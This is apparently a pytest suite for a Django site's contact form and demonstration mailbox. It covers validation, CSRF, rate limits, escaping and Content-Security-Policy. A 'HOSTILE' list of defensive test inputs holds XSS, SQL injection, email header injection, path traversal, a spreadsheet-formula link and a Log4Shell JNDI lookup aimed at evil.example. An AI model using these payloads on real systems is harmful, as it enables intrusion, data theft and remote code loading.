"""The contact form and the demonstration's mailbox, as a browser meets them."""

from __future__ import annotations

import re
import uuid

import pytest
from django.db import connection
from django.test import Client
from django.utils.html import escape

from communications import workflow
from communications.models import ContactMessage, Email
from communications.notices import NOTICES
from tests.communications.cast import make_participant, put, submit, write_to_the_office

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.usefixtures("limits_unused", "referees_not_written_to"),
]

GOOD = {
    "name": "Zoë Adeyemi",
    "email": "zoe@hotels.example",
    "about": "projects",
    "message": "Which projects want hoteliers?",
}
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ settings.SECRET_KEY }}{% load x %}",
    "' OR 1=1; DROP TABLE stepchange_user; --",
    "a\r\nBcc: everyone@evil.example\r\n\r\nBuy",
    "Z\u0351\u036b\u0343a\u0329l\u0321g",
    "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿",
    '=HYPERLINK("http://evil.example")',
    "%00%0d%0a",
    "..\\..\\..\\etc\\passwd",
    "${jndi:ldap://evil.example/a}",
]


def post(client: Client, **changed: str):
    return client.post("/contact/", GOOD | changed)


# The contact form ---------------------------------------------------------------------------------
def test_a_message_is_kept_encrypted_and_told_to_the_office_by_reference(
    client, settings, mailoutbox
):
    response = post(client)
    assert (response.status_code, response["Location"]) == (302, "/contact/sent/")
    received = ContactMessage.objects.get()
    assert {name: getattr(received, name) for name in GOOD} == GOOD
    with connection.cursor() as cursor:
        cursor.execute("SELECT message FROM communications_contactmessage")
        assert GOOD["message"] not in cursor.fetchone()[0]
    workflow.sweep()
    (mail,) = mailoutbox
    assert mail.to == [settings.OFFICE_EMAIL]
    assert received.reference in mail.subject
    everything = mail.message().as_string()
    assert not [words for words in GOOD.values() if words in everything.replace("projects", "")]


def test_the_page_after_sending_can_be_reloaded(client):
    assert post(client, follow="").status_code == 302
    for _ in range(2):
        assert "Message sent" in client.get("/contact/sent/").content.decode()
    assert ContactMessage.objects.count() == 1


def test_nothing_is_kept_of_a_get_and_other_methods_are_refused(client):
    assert client.get("/contact/", GOOD).status_code == 200
    assert client.put("/contact/").status_code == 405
    assert client.post("/contact/sent/").status_code == 405
    assert not ContactMessage.objects.exists()


def test_a_post_needs_the_pages_token():
    client = Client(enforce_csrf_checks=True)
    assert post(client).status_code == 403
    client.get("/contact/")
    token = client.cookies["csrftoken"].value
    assert post(client, csrfmiddlewaretoken=token).status_code == 302


@pytest.mark.parametrize(
    ("field", "value", "words"),
    [
        ("name", "", "Enter your name"),
        ("name", "x" * 201, "Your name must be 200 characters or fewer"),
        ("email", "", "Enter your email address"),
        ("email", "zoe", "Enter an email address in the correct format, like name@example.com"),
        ("email", "a@x.example, b@x.example", "Enter an email address in the correct format"),
        (
            "email",
            f"{'x' * 60}@{'y' * 60}.{'z' * 60}.{'w' * 60}.{'v' * 60}.example",
            "254 characters or",
        ),
        ("about", "", "Select what your message is about"),
        ("about", "everything", "Select what your message is about"),
        ("message", "", "Enter your message"),
        ("message", "   \r\n ", "Enter your message"),
        ("message", "x" * 10_001, "Your message must be 10,000 characters or fewer"),
        ("message", "a\0b", "Remove the characters that can&#x27;t be shown"),
    ],
)
def test_what_is_wrong_is_said_and_what_was_typed_is_kept(
    client, field: str, value: str, words: str
):
    response = post(client, **{field: value})
    page = response.content.decode()
    assert response.status_code == 200
    assert "<title>Error: " in page
    assert page.count(words) == 2  # in the summary and beside the field
    for name, typed in (GOOD | {field: value}).items():
        if name != "about" and typed.strip() and "\0" not in typed:
            assert escape(typed.strip()) in page
    assert not ContactMessage.objects.exists()


def test_a_message_may_be_exactly_as_long_as_is_said_its_line_breaks_counted_once(client):
    message = "x" * 4_999 + "\r\n" + "y" * 5_000
    assert post(client, message=message).status_code == 302
    assert ContactMessage.objects.get().message == message.replace("\r\n", "\n")


def test_a_megabyte_is_refused_with_a_page(client):
    response = post(client, message="x" * 1024 * 1024)
    assert response.status_code == 413
    assert not ContactMessage.objects.exists()


@pytest.mark.parametrize("payload", ["\u202etxt.exe", "\ufeff\u200b"])
def test_what_nobody_sees_is_refused_in_words(client, payload: str):
    page = post(client, message=f"Which projects?{payload}")

    assert (
        "There is a character that can’t be seen after “Which projects?”" in page.content.decode()
    )
    assert not ContactMessage.objects.exists()


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_words_are_kept_as_typed_and_shown_inert(client, mailoutbox, payload: str):
    assert post(client, name=payload, message=payload).status_code == 302
    received = ContactMessage.objects.get()
    assert received.message == payload.replace("\r\n", "\n").strip()
    assert received.name == " ".join(payload.split())
    page = post(client, name=payload, message=payload, email="").content.decode()
    assert escape(payload.strip().replace("\r\n", "\n")) in page.replace("\r\n", "\n")
    assert payload not in page or payload == escape(payload)
    workflow.sweep()
    assert [mail.recipients() for mail in mailoutbox] == [["office@stepchange.example"]]
    assert "evil" not in mailoutbox[0].message().as_string()


def test_the_message_has_room_and_a_count(client):
    page = client.get("/contact/").content.decode()
    assert "<textarea" in page
    assert 'data-maxlength="10000"' in page


def test_extra_fields_change_nothing(client):
    extra = {"received_at": "2000-01-01", "public_id": str(uuid.uuid4()), "id": "7", "state": "x"}
    post(client, **extra)
    received = ContactMessage.objects.get()
    assert received.received_at.year > 2000
    assert str(received.public_id) != extra["public_id"]


def test_broken_encodings_get_a_page(client):
    for body in (b"name=%ff%fe&message=%00", b"\xff\xfe", b"name=" + b"%" * 500):
        response = client.generic(
            "POST", "/contact/", body, content_type="application/x-www-form-urlencoded"
        )
        assert response.status_code in {200, 400}


def test_the_sixth_message_in_an_hour_waits_and_is_kept_on_the_page(client):
    assert [post(client).status_code for _ in range(5)] == [302] * 5
    response = post(client, message="My sixth")
    assert response.status_code == 429
    assert 3500 < int(response["Retry-After"]) <= 3600
    page = response.content.decode()
    assert "My sixth" in page
    assert "Try again in 60 minutes" in page
    assert ContactMessage.objects.count() == 5
    other = client.post("/contact/", GOOD, REMOTE_ADDR="203.0.113.9")
    assert other.status_code == 302


def test_mistakes_do_not_use_up_the_limit(client):
    for _ in range(10):
        post(client, email="")
    assert post(client).status_code == 302


def test_many_addresses_together_are_limited_too(client):
    answers = [
        client.post("/contact/", GOOD, REMOTE_ADDR=f"203.0.113.{number}").status_code
        for number in range(101)
    ]
    assert answers == [302] * 100 + [429]


# The mailbox --------------------------------------------------------------------------------------
@pytest.fixture
def demonstration(settings, tmp_path):
    settings.IS_DEMONSTRATION = True
    settings.MAILBOX = tmp_path / "mailbox"
    settings.EMAIL_BACKEND = "communications.demonstration.MailboxBackend"


def signed_up(client, address: str) -> Email:
    client.cookies.clear()
    client.post("/accounts/signup/", {"email": address})
    workflow.sweep()
    return Email.objects.get(address=address)


@pytest.mark.parametrize("tail", ["", "{id}/", "{id}/letter/"])
def test_outside_the_demonstration_there_is_no_mailbox(client, tail: str):
    submit(make_participant())
    workflow.derive()
    path = f"/demo/mailbox/{tail.format(id=Email.objects.get().public_id)}"
    response = client.get(path)
    assert response.status_code == 404
    assert response.content != b""


def test_a_visitor_finds_the_sign_up_code(client, demonstration):
    email = signed_up(client, "visitor@users.example")
    listed = client.post("/demo/mailbox/", {"to": "visitor@"}).content.decode()
    assert f"/demo/mailbox/{email.public_id}/" in listed
    page = client.get(f"/demo/mailbox/{email.public_id}/").content.decode()
    code = re.search(r"^ {4}(\w{4}-\w{4})$", page.replace("\r\n", "\n"), re.MULTILINE)
    assert code
    client.post("/accounts/confirm-email/", {"code": code[1]})
    assert "_auth_user_id" in client.session


def test_the_newest_comes_first_and_an_address_narrows(client, demonstration):
    for name in ("one", "two", "three"):
        signed_up(client, f"{name}@users.example")
    page = client.get("/demo/mailbox/").content.decode()
    assert re.findall(r"(\w+)@users\.example", page) == ["three", "two", "one"]
    page = client.post("/demo/mailbox/", {"to": "TWO@"}).content.decode()
    assert re.findall(r"(\w+)@users\.example", page) == ["two"]
    assert "1 email" in page


def test_no_mail_is_said_kindly(client, demonstration):
    assert "No email yet" in client.get("/demo/mailbox/").content.decode()
    page = client.post("/demo/mailbox/", {"to": "<b>nobody"}).content.decode()
    assert "No email to this address" in page
    assert "&lt;b&gt;nobody" in page


@pytest.mark.parametrize(
    "state", [str(state) for state in Email.State if state not in {"bounced", "complained"}]
)
def test_every_state_is_shown_by_its_word(client, demonstration, state: str):
    submit(make_participant())
    workflow.derive()
    email = put(Email.objects.get(), state, why="The mail server said <why>")
    paths = ["/demo/mailbox/", f"/demo/mailbox/{email.public_id}/"]
    if state == "suppressed":  # never sent: not among the emails
        assert email.get_state_display() not in client.get(paths.pop(0)).content.decode()
    for path in paths:
        page = client.get(path).content.decode()
        assert email.get_state_display() in page
    assert "The mail server said &lt;why&gt;" in page
    assert "Nothing was sent for it so far" in page


def test_the_list_costs_the_same_whatever_its_length(
    client, demonstration, django_assert_num_queries
):
    write_to_the_office(60)
    workflow.sweep()
    with django_assert_num_queries(2):
        page = client.get("/demo/mailbox/").content.decode()
    assert page.count("sc-mailbox__item") == 50
    assert "page=2" in page
    assert (
        client.get("/demo/mailbox/", {"page": "2"}).content.decode().count("sc-mailbox__item") == 10
    )


@pytest.mark.parametrize(
    "query", ["page=-1", "page=x", "page=9999", "to=%ff", f"to={'x' * 10_000}", "to=a&to=b"]
)
def test_odd_questions_get_a_page(client, demonstration, query: str):
    signed_up(client, "visitor@users.example")
    assert client.get(f"/demo/mailbox/?{query}").status_code == 200
    as_form = "application/x-www-form-urlencoded"
    posted = client.generic("POST", "/demo/mailbox/", query, content_type=as_form)
    assert posted.status_code == 200


def test_an_address_that_is_looked_for_stands_in_no_url(client, demonstration):
    for name in ("one", "two"):
        signed_up(client, f"{name}@users.example")
    assert "two@" in client.get("/demo/mailbox/", {"to": "one@"}).content.decode()
    response = client.post("/demo/mailbox/", {"to": "one@"})
    assert not response.cookies
    page = response.content.decode()
    assert 'method="post"' in page
    assert "two@" not in page
    assert not re.search(r'(href|action|src)="[^"]*one(@|%40)', page)


def test_the_pages_of_an_address_are_turned_without_naming_it_in_a_url(client, demonstration):
    person = make_participant("one@users.example")
    Email.objects.bulk_create(
        Email(notice="receipt", subject_key=f"{n}", address=person.user.email) for n in range(60)
    )
    first = client.post("/demo/mailbox/", {"to": "one@"}).content.decode()
    assert first.count("sc-mailbox__item") == 50
    assert '<input type="hidden" name="to" value="one@">' in first
    assert re.search(r'<button[^>]*name="page" value="2"', first)
    assert "?page=" not in first
    second = client.post("/demo/mailbox/", {"to": "one@", "page": "2"}).content.decode()
    assert second.count("sc-mailbox__item") == 10


def test_the_html_is_shown_in_a_sandbox_with_its_own_styles_only(client, demonstration):
    email = signed_up(client, "visitor@users.example")
    page = client.get(f"/demo/mailbox/{email.public_id}/")
    assert "frame-src 'self'" in page["Content-Security-Policy"]
    assert f'src="/demo/mailbox/{email.public_id}/letter/"' in page.content.decode()
    letter = client.get(f"/demo/mailbox/{email.public_id}/letter/")
    directives = letter["Content-Security-Policy"].split("; ")
    assert "default-src 'none'" in directives
    assert "frame-ancestors 'self'" in directives
    assert "sandbox allow-top-navigation-by-user-activation" in directives
    assert "unsafe-inline" not in letter["Content-Security-Policy"]
    assert "script-src" not in letter["Content-Security-Policy"]
    assert letter["X-Frame-Options"] == "SAMEORIGIN"
    (styles,) = [each for each in directives if each.startswith("style-src")]
    inline = set(re.findall(r'style="([^"]*)"', letter.content.decode()))
    assert len(inline) <= styles.count("'sha256-")


def test_what_does_not_exist_is_not_found(client, demonstration):
    for path in (
        f"/demo/mailbox/{uuid.uuid4()}/",
        f"/demo/mailbox/{uuid.uuid4()}/letter/",
        "/demo/mailbox/x/",
    ):
        assert client.get(path).status_code == 404


def test_the_mailbox_sets_no_cookie(client, demonstration):
    assert not client.get("/demo/mailbox/").cookies


def test_the_same_message_twice_is_one_file_named_by_its_id(demonstration, settings):
    from communications import letters
    from communications.post import Post

    submit(make_participant())
    workflow.derive()
    email = Email.objects.get()
    for _ in range(2):
        with Post() as box:
            box.hand_over(letters.write(email, NOTICES["receipt"]))
    assert [path.name for path in settings.MAILBOX.iterdir()] == [f"{email.public_id}.eml"]


def test_a_full_disk_only_delays(demonstration, settings, tmp_path):
    (tmp_path / "file").write_text("")
    settings.MAILBOX = tmp_path / "file"
    submit(make_participant())
    workflow.sweep()
    assert Email.objects.get().state == "delayed"


def test_the_mailbox_leaves_out_what_will_never_be_sent(client, demonstration):
    for state in (Email.State.SUPPRESSED, Email.State.QUEUED):
        Email.objects.create(
            notice="receipt", subject_key=state, address=f"{state}@users.example", state=state
        )

    page = client.get("/demo/mailbox/")

    assert [email.subject_key for email in page.context["page"]] == [Email.State.QUEUED]
